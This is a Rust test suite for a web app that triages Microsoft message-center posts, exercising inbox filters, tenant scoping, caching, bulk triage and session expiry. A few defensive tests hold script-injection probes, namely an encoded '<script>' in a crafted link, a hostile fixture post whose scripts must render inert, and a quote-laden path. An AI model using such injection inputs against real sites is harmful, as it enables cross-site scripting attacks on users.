    let board = b.get(&f, "/board").await;
    let triaged = &board.body[board.body.find("id=\"col-triaged\"").unwrap()..];
    let triaged = &triaged[..triaged.find("</section>").unwrap()];
    assert!(triaged.contains("/posts/MC1"), "{triaged}");
    // bulk triage of a selection
    let a = b
        .post(
            &f,
            "/items/bulk",
            &[
                ("action", "dismiss"),
                ("reason", "not for us"),
                ("id", "MC2"),
                ("id", "MC666"),
                ("back", "/?q=x"),
            ],
        )
        .await;
    // all done: back to the same list, which says so
    assert_eq!(a.status, StatusCode::SEE_OTHER, "{}", a.body);
    assert_eq!(a.location(), "/?q=x&bulk=dismiss&done=2&of=2");
    let back = b.get(&f, a.location()).await;
    assert!(
        back.body.contains("Dismiss: done for 2 posts."),
        "{}",
        back.body
    );
    // overdue after the due date passes? the list of open items with deadlines
    let late = b.get(&f, "/items?deadline=late").await;
    assert_eq!(late.status, StatusCode::OK);
    let mine = b.get(&f, "/items?assignee=owen&state=open").await;
    assert!(mine.body.contains("/posts/MC1"), "{}", mine.body);
}

/// The chip of this label on an inbox page: its count and whether it is
/// the active one.
pub(super) fn chip(body: &str, label: &str) -> (i64, bool) {
    let chips = &body[body.find("aria-label=\"Counts\"").expect("the chips")..];
    let chips = &chips[..chips.find("</ul>").unwrap()];
    let item = chips
        .split("<li>")
        .find(|li| li.contains(&format!(">{label} <b>")))
        .unwrap_or_else(|| panic!("no chip {label} in {chips}"));
    let n = &item[item.find("<b>").unwrap() + 3..item.find("</b>").unwrap()];
    (n.parse().unwrap(), item.contains("aria-current=\"true\""))
}

/// The values of the inbox's facet `title`, with their counts.
fn facet_values(body: &str, title: &str) -> Vec<(String, i64)> {
    let Some(i) = body.find(&format!("<h2 class=\"h3\">{title}</h2>")) else {
        return Vec::new();
    };
    let list = &body[i..];
    let list = &list[..list.find("</ul>").unwrap()];
    list.split("<li>")
        .skip(1)
        .map(|li| {
            let label = &li[li.find("<span>").unwrap() + 6..li.find("</span>").unwrap()];
            let n = &li[li.find("<span class=\"n\">").unwrap() + 16..];
            let n = &n[..n.find("</span>").unwrap()];
            (label.to_string(), n.parse().unwrap())
        })
        .collect()
}

/// The posts an inbox page lists.
pub(super) fn listed(body: &str) -> Vec<String> {
    let mut ids: Vec<String> = body
        .split("<td class=\"id\">")
        .skip(1)
        .map(|r| r[..r.find('<').unwrap()].to_string())
        .collect();
    ids.sort();
    ids
}

async fn groups(store: &Store, groups: &[(&str, &[&str])]) {
    for (name, include) in groups {
        store
            .put_group(
                &changedesk_core::triage::TenantGroup {
                    name: name.to_string(),
                    description: String::new(),
                    include: include.iter().map(|s| s.to_string()).collect(),
                    exclude: Vec::new(),
                },
                "test",
                &at(NOW),
            )
            .await
            .unwrap();
    }
}

async fn the_inbox_chips_and_work_item_facets_filter_the_inbox(store: Store) {
    let f = fixture(store, 2).await;
    groups(
        &f.store,
        &[
            ("north", &["alpha"]),
            ("south", &["zulu"]),
            ("empty", &["nomatch-*"]),
        ],
    )
    .await;
    let b = sign_in(&f, "admin").await;
    // MC1 (act-by 2026-03-20), MC2 and MC666 (no act-by, rollout started
    // 5 March, after changedesk first saw them: missed) await triage;
    // MC5000 and MC5001 have no item
    let inbox = b.get(&f, "/").await;
    assert_eq!(chip(&inbox.body, "Awaiting triage"), (3, false));
    assert_eq!(chip(&inbox.body, "Missed"), (2, false));
    assert_eq!(chip(&inbox.body, "Overdue"), (0, false));
    assert_eq!(chip(&inbox.body, "Changed since triage"), (0, false));
    for (value, label) in [
        ("awaiting", "Awaiting triage"),
        ("changed", "Changed since triage"),
        ("overdue", "Overdue"),
        ("missed", "Missed"),
    ] {
        assert!(
            inbox
                .body
                .contains(&format!("<a href=\"/?chip={value}\">{label} <b>")),
            "{value}: {}",
            inbox.body
        );
    }
    let chips = &inbox.body[inbox.body.find("aria-label=\"Counts\"").unwrap()..];
    let chips = &chips[..chips.find("</ul>").unwrap()];
    assert!(
        !chips.contains("/items"),
        "no chip leaves the inbox: {chips}"
    );
    let a = b.get(&f, "/?chip=awaiting").await;
    assert_eq!(listed(&a.body), ["MC1", "MC2", "MC666"], "{}", a.body);
    assert!(a.body.contains(">3 posts<"));
    assert_eq!(chip(&a.body, "Awaiting triage"), (3, true));
    assert!(
        a.body.contains("chip: awaiting triage <a href=\"/\""),
        "the filter in force, with its clear link: {}",
        a.body
    );
    let a = b.get(&f, "/?chip=missed").await;
    assert_eq!(listed(&a.body), ["MC2", "MC666"], "{}", a.body);

    // triaged, MC1 no longer awaits; once its due date passed, it is overdue
    let post = b.get(&f, "/posts/MC1").await;
    for fields in [
        vec![
            ("action", "triage"),
            ("version", post.field("version").as_str()),
        ],
        vec![("action", "set_due"), ("due", "2026-03-05")],
    ] {
        let a = b.post(&f, "/posts/MC1/actions", &fields).await;
        assert_eq!(a.status, StatusCode::SEE_OTHER, "{fields:?}: {}", a.body);
    }
    let a = b.get(&f, "/?chip=awaiting").await;
    assert_eq!(listed(&a.body), ["MC2", "MC666"], "{}", a.body);
    assert_eq!(chip(&a.body, "Awaiting triage"), (2, true));
    let a = b.get(&f, "/?chip=overdue").await;
    assert_eq!(listed(&a.body), ["MC1"], "{}", a.body);
    assert_eq!(chip(&a.body, "Overdue"), (1, true));
    assert_eq!(chip(&a.body, "Missed"), (2, false));
    // a new revision flags it changed since triage
    let mut stored = f.store.work_item("MC1").await.unwrap().unwrap();
    stored.item.changed_since_triage = vec!["act_by".into()];
    f.store
        .save_work_item(&ItemSave {
            item: &stored.item,
            expected_version: Some(stored.version),
            evaluated_revision: None,
            entries: &[],
            notify: &[],
            events: &[],
            at: at(NOW),
        })
        .await
        .unwrap();
    let a = b.get(&f, "/?chip=changed").await;
    assert_eq!(listed(&a.body), ["MC1"], "{}", a.body);
    assert_eq!(chip(&a.body, "Changed since triage"), (1, true));
    // a chip within another filter
    let a = b.get(&f, "/?tenant=zulu&chip=missed").await;
    assert_eq!(listed(&a.body), ["MC2"], "{}", a.body);

    // the work state, owner and tenant group facets, each a filter
    let inbox = b.get(&f, "/").await;
    assert_eq!(
        facet_values(&inbox.body, "Work state"),
        [("new".to_string(), 2), ("triaged".to_string(), 1)]
    );
    assert_eq!(
        facet_values(&inbox.body, "Owner"),
        [("unassigned".to_string(), 2), ("owen".to_string(), 1)]
    );
    assert_eq!(
        facet_values(&inbox.body, "Tenant group"),
        [("north".to_string(), 4), ("south".to_string(), 2)],
        "a group without tenants is not shown"
    );
    for href in [
        "/?item_state=triaged",
        "/?assignee=owen",
        "/?assignee=none",
        "/?tenant_group=south",
    ] {
        assert!(inbox.body.contains(&format!("href=\"{href}\"")), "{href}");
    }
    for (path, want) in [
        ("/?item_state=triaged", &["MC1"][..]),
        ("/?item_state=new", &["MC2", "MC666"]),
        ("/?assignee=owen", &["MC1"]),
        ("/?assignee=none", &["MC2", "MC666"]),
        ("/?tenant_group=south", &["MC1", "MC2"]),
        (
            "/?tenant_group=north",
            &["MC1", "MC5000", "MC5001", "MC666"],
        ),
        ("/?tenant_group=south&assignee=none", &["MC2"]),
        ("/?tenant_group=north&chip=missed", &["MC666"]),
        // no item is both awaiting triage and triaged
        ("/?item_state=triaged&chip=awaiting", &[]),
    ] {
        let a = b.get(&f, path).await;
        assert_eq!(a.status, StatusCode::OK, "{path}: {}", a.body);
        assert_eq!(listed(&a.body), want, "{path}");
    }
    let a = b.get(&f, "/?tenant_group=south&item_state=new").await;
    assert!(
        a.body
            .contains("tenant group: south <a href=\"/?item_state=new\"")
            && a.body
                .contains("work state: new <a href=\"/?tenant_group=south\""),
        "the filters in force: {}",
        a.body
    );
    // a group's count is what choosing it lists, whichever group is chosen
    assert_eq!(
        facet_values(&a.body, "Tenant group"),
        [("north".to_string(), 1), ("south".to_string(), 1)]
    );
    let a = b.get(&f, "/?assignee=none").await;
    assert!(
        a.body.contains("owner: unassigned <a href=\"/\""),
        "{}",
        a.body
    );
    // the rows still show their item
    let a = b.get(&f, "/?q=id:MC1").await;
    assert!(
        a.body.contains(
            "<span class=\"state-triaged\">triaged</span><div class=\"meta owner\">owen</div>"
        ),
        "{}",
        a.body
    );
    let a = b.get(&f, "/?q=id:MC5000").await;
    assert!(a.body.contains("no item"), "{}", a.body);
    // an unknown group or chip says what is wrong
    let a = b.get(&f, "/?tenant_group=nosuch").await;
    assert_eq!(a.status, StatusCode::BAD_REQUEST);
    assert!(a.body.contains("no tenant group `nosuch`"), "{}", a.body);
    let a = b.get(&f, "/?chip=sideways").await;
    assert_eq!(a.status, StatusCode::BAD_REQUEST);
    assert!(a.body.contains("awaiting"), "{}", a.body);
    // a saved view keeps the new filters
    let a = b
        .post(
            &f,
            "/views/save",
            &[
                ("name", "South, nobody's, missed"),
                (
                    "query",
                    "chip=missed&item_state=new&assignee=none&tenant_group=south&cursor=x",
                ),
            ],
        )
        .await;
    assert_eq!(
        (a.status, a.location()),
        (
            StatusCode::SEE_OTHER,
            "/?tenant_group=south&assignee=none&item_state=new&chip=missed"
        ),
        "{}",
        a.body
    );
    let a = b.get(&f, a.location()).await;
    assert_eq!(listed(&a.body), ["MC2"], "{}", a.body);
}

async fn a_scoped_user_sees_no_group_or_count_beyond_their_tenants(store: Store) {
    let f = fixture(store, 2).await;
    groups(
        &f.store,
        &[
            ("north", &["alpha"]),
            ("south", &["zulu"]),
            ("mixed", &["alpha", "zulu"]),
        ],
    )
    .await;
    let b = sign_in(&f, "scoped").await;
    let inbox = b.get(&f, "/").await;
    // MC1 and MC666 are alpha's items; MC2 is zulu's
    assert_eq!(chip(&inbox.body, "Awaiting triage"), (2, false));
    assert_eq!(chip(&inbox.body, "Missed"), (1, false));
    assert_eq!(
        facet_values(&inbox.body, "Owner"),
        [("unassigned".to_string(), 1), ("owen".to_string(), 1)]
    );
    assert_eq!(
        facet_values(&inbox.body, "Tenant group"),
        [("mixed".to_string(), 4), ("north".to_string(), 4)],
        "the mixed group counts alpha's posts only; south is not shown"
    );
    assert!(!inbox.body.contains("south"), "{}", inbox.body);
    for path in [
        "/?tenant_group=mixed",
        "/?tenant_group=mixed&chip=missed",
        "/?chip=awaiting",
    ] {
        let a = b.get(&f, path).await;
        assert_eq!(a.status, StatusCode::OK, "{path}");
        assert!(
            !a.body.contains("/posts/MC2") && !a.body.to_ascii_lowercase().contains("zulu"),
            "{path}: {}",
            a.body
        );
    }
    let a = b.get(&f, "/?tenant_group=mixed").await;
    assert_eq!(listed(&a.body), ["MC1", "MC5000", "MC5001", "MC666"]);
    // a group outside the scope is as unknown as one that does not exist
    let south = b.get(&f, "/?tenant_group=south").await;
    let nosuch = b.get(&f, "/?tenant_group=nosuch").await;
    for (a, name) in [(&south, "south"), (&nosuch, "nosuch")] {
        assert_eq!(a.status, StatusCode::BAD_REQUEST);
        assert!(
            a.body.contains(&format!(
                "no tenant group `{name}` holds a tenant you may see"
            )),
            "{}",
            a.body
        );
    }
    // the API says the same
    let api = b.get(&f, "/api/v1/posts/facets").await;
    assert_eq!(api.status, StatusCode::OK, "{}", api.body);
    let facets: serde_json::Value = serde_json::from_str(&api.body).unwrap();
    assert_eq!(
        facets["tenant_group"],
        json!([{"value": "mixed", "count": 4}, {"value": "north", "count": 4}])
    );
    assert_eq!(
        facets["assignee"],
        json!([{"value": "none", "count": 1}, {"value": "owen", "count": 1}])
    );
    assert_eq!(facets["item_state"], json!([{"value": "new", "count": 2}]));
    let api = b.get(&f, "/api/v1/posts?tenant_group=south").await;
    assert_eq!(api.status, StatusCode::BAD_REQUEST, "{}", api.body);
}

/// The inbox's data is kept like the API's answers: shared by people with
/// the same rights (each page with its own session's form token), never
/// across rights, made again after a write; a sync load that brings
/// nothing new leaves it kept, one that brings a post does not.
async fn the_inbox_is_kept_per_rights_until_the_archive_changes(store: Store) {
    let f = fixture(store, 2).await;
    // answers that depend on the time are renewed after 15 to 22 s by
    // default: a slow machine (sign-ins hash passwords) could pass that
    // between two requests here, so they are kept an hour
    let f = served_with(
        f.store,
        Settings {
            secure_cookies: false,
            cache: http::cache::CacheSettings {
                ttl: std::time::Duration::from_secs(3600),
                ..Default::default()
            },
            ..Settings::default()
        },
    );
    user(&f.store, "admin2", Role::Admin, Scope::default()).await;
    let kept = |a: &Answer| {
        a.headers
            .get(http::cache::CACHE_HEADER)
            .map(|v| v.to_str().unwrap().to_string())
            .unwrap_or_default()
    };
    let admin = sign_in(&f, "admin").await;
    let first = admin.get(&f, "/?q=recap").await;
    assert_eq!(first.status, StatusCode::OK);
    assert_eq!(kept(&first), "miss");
    let again = admin.get(&f, "/?q=recap").await;
    assert_eq!(kept(&again), "hit");
    assert_eq!(again.body, first.body);
    // another admin: the same data, their own form token
    let admin2 = sign_in(&f, "admin2").await;
    let theirs = admin2.get(&f, "/?q=recap").await;
    assert_eq!(kept(&theirs), "hit");
    assert_eq!(theirs.field("csrf_token"), admin2.csrf);
    assert_ne!(admin2.csrf, admin.csrf);
    assert!(theirs.body.contains("/posts/MC1"), "{}", theirs.body);
    // a user limited to alpha: made for them, without zulu's post
    let scoped = sign_in(&f, "scoped").await;
    let a = scoped.get(&f, "/").await;
    assert_eq!(kept(&a), "hit", "sign_in asked for it first");
    assert!(!a.body.contains("/posts/MC2"), "{}", a.body);
    let a = admin.get(&f, "/").await;
    assert!(a.body.contains("/posts/MC2"), "{}", a.body);
    // a reader: the same tenants, another role (no selection boxes)
    let reader = sign_in(&f, "reader").await;
    let a = reader.get(&f, "/").await;
    assert!(!a.body.contains("name=\"id\""), "{}", a.body);
    // a write: made again, showing it
    let a = admin
        .post(&f, "/posts/MC2/actions", &[("action", "triage")])
        .await;
    assert!(a.status.is_redirection(), "{}", a.body);
    let a = admin.get(&f, "/?q=recap").await;
    assert_eq!(kept(&a), "miss");
    let a = admin.get(&f, "/?q=recap").await;
    assert_eq!(kept(&a), "hit");
    // a sync of alpha that brings nothing new: still kept
    let quiet = changedesk_store::TenantBatch {
        messages: Some((
            &[],
            ImportOptions {
                complete: false,
                ..opts("2026-03-10T08:00:00Z")
            },
        )),
        issues: None,
        health: None,
        at: at("2026-03-10T08:00:00Z"),
        record: Some(None),
        digests: None,
        issue_digests: None,
    };
    f.store.import_batch("alpha", &quiet).await.unwrap();
    let a = admin.get(&f, "/?q=recap").await;
    assert_eq!(kept(&a), "hit");
    // one that brings a post: made again, with it
    let new = [post(
        "MC77",
        "2026-03-09T00:00:00Z",
        "Teams: recap templates",
        "<p>new</p>",
        json!({}),
    )];
    let load = changedesk_store::TenantBatch {
        messages: Some((
            &new,
            ImportOptions {
                complete: false,
                ..opts("2026-03-10T08:30:00Z")
            },
        )),
        ..quiet
    };
    f.store.import_batch("alpha", &load).await.unwrap();
    let a = admin.get(&f, "/?q=recap").await;
    assert_eq!(kept(&a), "miss");
    assert!(a.body.contains("/posts/MC77"), "{}", a.body);
}

/// The post page shows the rollout phases the body gives (issue 20), as
/// Microsoft writes their dates, and what Microsoft says it moved.
async fn the_post_page_shows_the_rollout_from_the_body(store: Store) {
    let f = fixture(store, 0).await;
    let moved = post(
        "MC5",
        "2026-02-06T00:00:00Z",
        "Teams: a moved rollout",
        "<p>[When this will happen:]</p><p>Targeted Release: We will begin rolling out in mid-May 2026 \
         (previously early May) and expect to complete by late May 2026.</p>\
         <p>General Availability (Worldwide, GCC): rolling out in June 2026.</p>",
        json!({}),
    );
    f.store
        .import_messages("alpha", &[moved], &opts("2026-02-06T01:00:00Z"))
        .await
        .unwrap();
    let admin = sign_in(&f, "admin").await;
    let page = admin.get(&f, "/posts/MC5").await;
    assert_eq!(page.status, StatusCode::OK);
    for shown in [
        "Rollout <span class=\"muted\">(as the post tells it)</span>",
        "Targeted release · Worldwide</span><span>mid-May 2026 → late May 2026",
        "General availability · GCC</span><span>from June 2026",
        "Moved by Microsoft: Targeted release · Worldwide: previously early May",
    ] {
        assert!(page.body.contains(shown), "{shown}: {}", page.body);
    }
    // a post whose body gives no phase shows no such section
    let plain = post(
        "MC6",
        "2026-02-06T00:00:00Z",
        "Teams: nothing dated",
        "<p>We are improving meetings.</p>",
        json!({}),
    );
    f.store
        .import_messages("alpha", &[plain], &opts("2026-02-06T01:00:00Z"))
        .await
        .unwrap();
    let page = admin.get(&f, "/posts/MC6").await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(!page.body.contains("rollout-phases-title"), "{}", page.body);
}

async fn the_one_triage_form_saves_it_all_then_opens_the_next_post(store: Store) {
    let f = fixture(store, 0).await;
    let b = sign_in(&f, "admin").await;
    // the posts awaiting triage, newest change first: MC1, MC666, MC2
    let page = b.get(&f, "/posts/MC1").await;
    assert_eq!(page.status, StatusCode::OK);
    for shown in [
        "id=\"triage-form\"",
        "<a id=\"next-post\" href=\"/posts/MC666#triage\"",
        "https://admin.microsoft.com/#/MessageCenter/:/messages/MC1",
    ] {
        assert!(page.body.contains(shown), "{shown}: {}", page.body);
    }
    assert!(!page.body.contains("id=\"prev-post\""), "MC1 is the first");
    let version = page.field("version");
    let a = b
        .post(
            &f,
            "/posts/MC1/triage",
            &[
                ("version", &version),
                ("was_owner", "owen"),
                ("owner", "owen"),
                ("was_priority", "normal"),
                ("priority", "high"),
                ("was_due", ""),
                ("due", "2026-04-01"),
                ("outcome", "triage"),
                ("text", "Checked with the Teams admins"),
                ("then", "next"),
            ],
        )
        .await;
    assert_eq!(a.status, StatusCode::SEE_OTHER, "{}", a.body);
    assert_eq!(a.location(), "/posts/MC666#triage");
    let item = f.store.work_item("MC1").await.unwrap().unwrap().item;
    assert_eq!(item.state.as_str(), "triaged");
    assert_eq!(item.priority.as_str(), "high");
    assert_eq!(item.assignee.as_deref(), Some("owen"));
    assert_eq!(item.due, Some(at("2026-04-01T00:00:00Z")));
    let log = f.store.work_item_log("MC1").await.unwrap();
    let said: Vec<String> = log.iter().map(|e| format!("{:?}", e)).collect();
    assert!(
        said.iter()
            .any(|e| e.contains("Checked with the Teams admins")),
        "{said:?}"
    );
    // MC666 now: the previous one is gone from the queue, MC2 is next
    let page = b.get(&f, "/posts/MC666").await;
    assert!(
        page.body
            .contains("<a id=\"next-post\" href=\"/posts/MC2#triage\""),
        "{}",
        page.body
    );
    // dismissing without a reason: the page again, saying why, nothing done
    let version = page.field("version");
    let a = b
        .post(
            &f,
            "/posts/MC666/triage",
            &[
                ("version", &version),
                ("was_owner", ""),
                ("owner", ""),
                ("was_priority", "normal"),
                ("priority", "normal"),
                ("was_due", ""),
                ("due", ""),
                ("outcome", "dismiss"),
                ("text", ""),
                ("then", "next"),
            ],
        )
        .await;
    assert_eq!(a.status, StatusCode::BAD_REQUEST, "{}", a.body);
    assert!(
        a.body.contains("say why the post is not relevant"),
        "{}",
        a.body
    );
    assert!(a.body.contains("id=\"triage-form\""), "the form again");
    let item = f.store.work_item("MC666").await.unwrap().unwrap().item;
    assert_eq!(item.state.as_str(), "new");
    // a reader may not use it
    let r = sign_in(&f, "reader").await;
    let a = r
        .post(
            &f,
            "/posts/MC666/triage",
            &[("outcome", "triage"), ("then", "stay")],
        )
        .await;
    assert_eq!(a.status, StatusCode::FORBIDDEN, "{}", a.body);
}

async fn bulk_actions_assign_prioritise_date_and_label_then_return_to_the_list(store: Store) {
    let f = fixture(store, 0).await;
    let b = sign_in(&f, "admin").await;
    let back = "/?chip=awaiting";
    for (fields, said) in [
        (
            vec![("action", "assign"), ("owner", "owen")],
            "Assign: done for 2 posts.",
        ),
        (
            vec![("action", "set_priority"), ("priority", "high")],
            "Set priority: done for 2 posts.",
        ),
        (
            vec![("action", "set_due"), ("due", "2026-04-15")],
            "Set due date: done for 2 posts.",
        ),
        (
            vec![("action", "add_label"), ("label", "wave-2")],
            "Add label: done for 2 posts.",
        ),
    ] {
        let mut all = vec![("id", "MC2"), ("id", "MC666"), ("back", back)];
        all.extend(fields);
        let a = b.post(&f, "/items/bulk", &all).await;
        assert_eq!(a.status, StatusCode::SEE_OTHER, "{}", a.body);
        assert!(
            a.location().starts_with("/?chip=awaiting&bulk="),
            "{}",
            a.location()
        );
        let list = b.get(&f, a.location()).await;
        assert_eq!(list.status, StatusCode::OK);
        assert!(list.body.contains(said), "{said}: {}", list.body);
    }
    for id in ["MC2", "MC666"] {
        let item = f.store.work_item(id).await.unwrap().unwrap().item;
        assert_eq!(item.assignee.as_deref(), Some("owen"));
        assert_eq!(item.priority.as_str(), "high");
        assert_eq!(item.due, Some(at("2026-04-15T00:00:00Z")));
        assert!(item.labels.contains("wave-2"), "{:?}", item.labels);
    }
    // what cannot be done is said on the list, not on a bare error page
    for (fields, said) in [
        (vec![("action", "triage")], "Select posts first"),
        (
            vec![("action", "dismiss"), ("id", "MC2")],
            "Dismissing needs a reason",
        ),
        (
            vec![("action", "set_due"), ("due", "soon"), ("id", "MC2")],
            "is not a date like",
        ),
        (
            vec![("action", "add_label"), ("label", " "), ("id", "MC2")],
            "needs the label",
        ),
    ] {
        let mut all = vec![("back", back)];
        all.extend(fields);
        let a = b.post(&f, "/items/bulk", &all).await;
        assert_eq!(a.status, StatusCode::SEE_OTHER, "{}", a.body);
        let list = b.get(&f, a.location()).await;
        assert!(list.body.contains(said), "{said}: {}", list.body);
    }
    // a crafted link says nothing of its own
    let list = b
        .get(&f, "/?bulk=%3Cscript%3E&done=1&of=1&bulk_error=%3Cb%3E")
        .await;
    assert_eq!(list.status, StatusCode::OK);
    assert!(
        !list.body.contains("class=\"notice\" role=\"status\""),
        "{}",
        list.body
    );
}

async fn the_inbox_lists_what_changed_since_a_day_with_its_rollout_start(store: Store) {
    let f = fixture(store, 0).await;
    let b = sign_in(&f, "admin").await;
    // MC1 changed on 5 February, MC666 on 3 February, MC2 on 1 February
    let list = b.get(&f, "/?changed_since=2026-02-03").await;
    assert_eq!(list.status, StatusCode::OK);
    assert!(list.body.contains(">2 posts<"), "{}", list.body);
    assert!(
        list.body.contains("changed since: 2026-02-03"),
        "{}",
        list.body
    );
    assert!(!list.body.contains("href=\"/posts/MC2\""));
    // MC1's body says May 2026
    assert!(
        list.body
            .contains("rollout <span class=\"nw\">2026-05-01</span>"),
        "{}",
        list.body
    );
    // and its newest revision moved its act-by date and its rollout
    assert_eq!(
        list.body.matches(">date moved</span>").count(),
        1,
        "{}",
        list.body
    );
    let bad = b.get(&f, "/?changed_since=yesterday").await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    assert!(bad.body.contains("is not a date like"), "{}", bad.body);
}

async fn inbox_rows_have_a_preview_work_columns_and_a_compact_mode(store: Store) {
    let f = fixture(store, 0).await;
    let b = sign_in(&f, "admin").await;
    // MC1's work item: owen's, then high, due mid-April, labelled
    for fields in [
        [("action", "set_priority"), ("priority", "high")],
        [("action", "set_due"), ("due", "2026-04-15")],
        [("action", "add_label"), ("label", "wave-2")],
    ] {
        let mut all = vec![("id", "MC1"), ("back", "/")];
        all.extend(fields);
        let a = b.post(&f, "/items/bulk", &all).await;
        assert_eq!(a.status, StatusCode::SEE_OTHER, "{}", a.body);
    }
    let list = b.get(&f, "/").await;
    assert_eq!(list.status, StatusCode::OK);
    let row = |body: &str, id: &str| -> String {
        let from = body.find(&format!("href=\"/posts/{id}\"")).unwrap();
        let row = &body[from..];
        row[..row.find("</tr>").unwrap()].to_string()
    };
    let mc1 = row(&list.body, "MC1");
    // the preview, fetched when it opens: its timeline (the body has no
    // introduction to show)
    assert!(
        mc1.contains("<details class=\"preview\" data-preview=\"/posts/MC1/preview\""),
        "{mc1}"
    );
    let preview = b.get(&f, "/posts/MC1/preview").await;
    assert_eq!(preview.status, StatusCode::OK);
    assert!(preview.body.contains("May 2026"), "{}", preview.body);
    assert!(
        !preview.body.contains("<html"),
        "a fragment: {}",
        preview.body
    );
    // owner, priority, due date and labels as columns
    for want in [">owen<", "prio-high", "2026-04-15", ">wave-2<"] {
        assert!(mc1.contains(want), "{want}: {mc1}");
    }
    // the hostile post's preview is its text, escaped, without what its
    // scripts held
    let bad = b.get(&f, "/posts/MC666/preview").await;
    assert!(
        bad.body.contains("Rollout</b>: from 2026-03-05"),
        "{}",
        bad.body
    );
    assert!(!bad.body.contains("alert"), "{}", bad.body);
    // only in the caller's tenants: MC2 is zulu's alone
    let scoped = sign_in(&f, "scoped").await;
    assert_eq!(
        scoped.get(&f, "/posts/MC2/preview").await.status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        scoped.get(&f, "/posts/MC1/preview").await.status,
        StatusCode::OK
    );
    assert_eq!(
        b.get(&f, "/posts/MC1%27x/preview").await.status,
        StatusCode::NOT_FOUND
    );
    assert!(!list.body.contains("<script>alert"), "a script in the page");
    assert!(!list.body.contains("posts compact"));

    // compact: asked once, remembered by the browser
    let compact = b.get(&f, "/?density=compact").await;
    assert_eq!(compact.status, StatusCode::OK);
    assert!(
        compact.body.contains("class=\"posts compact\""),
        "{}",
        compact.body
    );
    assert_eq!(
        compact.cookie("changedesk_density").as_deref(),
        Some("changedesk_density=compact")
    );
    assert!(compact.body.contains("density=comfortable"), "a way back");
    let again = Browser {
        cookie: format!("{}; changedesk_density=compact", b.cookie),
        csrf: b.csrf.clone(),
    };
    let list = again.get(&f, "/?chip=awaiting").await;
    assert!(
        list.body.contains("class=\"posts compact\""),
        "{}",
        list.body
    );
    let bad = b.get(&f, "/?density=tiny").await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    assert!(
        bad.body.contains("is not compact or comfortable"),
        "{}",
        bad.body
    );
}

async fn posts_new_since_the_last_visit_are_marked(store: Store) {
    let f = fixture(store, 0).await;
    let b = sign_in(&f, "admin").await;
    let admin = f.store.user_by_name("admin").await.unwrap().unwrap();
    // a first visit marks nothing
    let first = b.get(&f, "/").await;
    assert!(!first.body.contains("Your last visit"), "{}", first.body);
    assert!(!first.body.contains("badge new\" title"), "{}", first.body);
    // a visit on 1 March, between the two loads (alpha 1 March 00:00, zulu
    // 2 March), then another a day later: the page marks what came since
    f.store
        .inbox_visit(admin.id, &at("2026-03-01T12:00:00Z"))
        .await
        .unwrap();
    f.store
        .inbox_visit(admin.id, &at("2026-03-10T08:00:00Z"))
        .await
        .unwrap();
    let page = b.get(&f, "/").await;
    assert!(
        page.body.contains("Your last visit: 2026-03-01 12:00 UTC"),
        "{}",
        page.body
    );
    // MC2 came with zulu's load: new; MC666 and MC1 (first seen with alpha's) are not
    let marked = |id: &str| {
        let row = &page.body[page.body.find(&format!("href=\"/posts/{id}\"")).unwrap()..];
        let row = &row[..row.find("</tr>").unwrap()];
        row.contains("badge new")
    };
    assert!(marked("MC2"));
    assert!(!marked("MC666"));
    assert!(!marked("MC1"));
}

/// A session's sliding expiry moves once a minute, written in the
/// background: the request is answered without waiting for the write, and
/// the session's expiry has moved soon after.
async fn a_session_slides_its_expiry_in_the_background(store: Store) {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicI64, Ordering};
    let base = at(NOW);
    let offset = Arc::new(AtomicI64::new(0));
    let clock = Arc::clone(&offset);
    user(&store, "admin", Role::Admin, Scope::default()).await;
    let settings = Settings {
        secure_cookies: false,
        ..Settings::default()
    };
    let idle = time::Duration::try_from(settings.session_idle).unwrap();
    let state = AppState::new(store.clone(), settings).with_clock(move || {
        base.saturating_add(time::Duration::seconds(clock.load(Ordering::SeqCst)))
    });
    let f = Fixture {
        app: http::router(state, true),
        store: store.clone(),
    };
    let browser = sign_in(&f, "admin").await;
    let value = browser
        .cookie
        .split_once('=')
        .map(|(_, v)| v)
        .unwrap_or(&browser.cookie);
    let hash = changedesk_server::http::auth::hash_secret(value);
    let expiry = || async {
        store
            .session(&hash, &base)
            .await
            .unwrap()
            .expect("the session")
            .0
            .expires_at
    };
    let first = expiry().await;
    // within the minute: nothing written
    offset.store(30, Ordering::SeqCst);
    assert_eq!(browser.get(&f, "/").await.status, StatusCode::OK);
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    assert_eq!(expiry().await, first);
    // past it: the page, then the expiry moved to two minutes on plus the idle time
    offset.store(120, Ordering::SeqCst);
    assert_eq!(browser.get(&f, "/").await.status, StatusCode::OK);
    let want = base.saturating_add(time::Duration::seconds(120) + idle);
    let mut moved = expiry().await;
    for _ in 0..100 {
        if moved == want {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        moved = expiry().await;
    }
    assert_eq!(moved, want, "the expiry slid (from {first:?})");
}

both!(
    a_session_slides_its_expiry_in_the_background,
    inbox_rows_have_a_preview_work_columns_and_a_compact_mode,
    posts_new_since_the_last_visit_are_marked,
    bulk_actions_assign_prioritise_date_and_label_then_return_to_the_list,
    the_inbox_lists_what_changed_since_a_day_with_its_rollout_start,
    the_one_triage_form_saves_it_all_then_opens_the_next_post,
    the_post_page_shows_the_rollout_from_the_body,
    sign_in_page_signs_in_and_sets_the_cookie,
    pages_redirect_when_signed_out,
    every_ui_answer_has_the_security_headers,
    a_hostile_post_renders_inert,
    readers_get_no_triage_panel_and_cannot_triage,
    forms_without_the_csrf_token_are_refused,
    scoped_users_see_only_their_tenants,
    the_inbox_with_50_posts_weighs_under_100_kb,
    a_tour_search_chip_post_diff_triage_board,
    the_inbox_chips_and_work_item_facets_filter_the_inbox,
    a_scoped_user_sees_no_group_or_count_beyond_their_tenants,
    the_inbox_is_kept_per_rights_until_the_archive_changes,
);
